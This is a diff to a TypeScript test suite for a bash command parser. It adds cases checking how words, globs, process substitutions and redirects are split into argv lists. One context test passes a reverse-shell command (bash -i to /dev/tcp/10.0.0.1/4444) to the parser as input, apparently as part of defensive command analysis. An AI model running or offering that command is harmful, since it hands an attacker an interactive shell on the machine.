@@ -50,6 +50,24 @@ describe("bash parser: the commands a line runs", () => {
   });
 });
 
+describe("bash parser: plain words (no node made) end exactly where bash ends them", () => {
+  // The parser reads a plain run without making a node; whatever a plain run touches — a
+  // glob, an escape, a $, a brace, a process substitution, an extglob — is read as before.
+  test.each([
+    ["diff a<(ls b) c>(wc -l)", [["diff", "a<(ls b)", "c>(wc -l)"], ["ls", "b"], ["wc", "-l"]], [false, true, true]],
+    ["echo a*b c?d e[1] f]g", [["echo", "a*b", "c?d", "e[1]", "f]g"]], [false, true, true, true, false]],
+    ["echo a\\ b a$ {a,b} é", [["echo", "a b", "a$", "{a,b}", "é"]], [false, false, false, true, false]],
+    ["ls @(x|y) }x", [["ls", "@(x|y)", "}x"]], [false, false, false]],
+    ["X=1 cmd arg>out 2>&1", [["cmd", "arg"]], [false, false]],
+    ["f () { ls; }; export A=1 B; unset X", [["ls"], ["export", "A=1", "B"], ["unset", "X"]], [false]],
+  ] as const)("%s", (command, argvs, dynamic) => {
+    const a = analyzeBash(command);
+    expect(a.parsed).toBe(true);
+    expect(a.commands.map((c) => c.argv)).toEqual(argvs.map((x) => [...x]));
+    expect(a.commands[0]?.dynamic).toEqual([...dynamic]);
+  });
+});
+
 describe("bash parser: where tree-sitter-bash 0.25.1 read the line wrongly", () => {
   test("words after a redirect are the command's, and 0>&1 is fd 0's", () => {
     const a = analyzeBash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
